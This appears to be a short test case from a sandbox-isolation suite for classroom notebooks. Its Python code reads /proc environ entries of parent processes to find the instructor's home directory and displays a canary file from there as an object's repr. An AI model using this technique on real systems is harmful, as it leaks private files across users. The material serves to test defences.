# Tries: A file in the instructor's home, found through the processes above, becomes the repr of a displayed
#   object.
# Shows: the text of canary.txt in HOME
# Wins against: stock
# Uses: class_folder
# %% added: q1_minimum
import re
import os
import pathlib


class Shown:
    def __init__(self, text):
        self.text = text

    def __repr__(self):
        return self.text


homes = {os.path.expanduser("~")}
for pid in above():
    try:
        environment = pathlib.Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:
        continue
    homes |= {m.decode() for m in re.findall(rb"\0HOME=([^\0]*)", environment)}
for home in homes:
    file = pathlib.Path(home) / "canary.txt"
    if file.exists():
        display(Shown(file.read_text()))
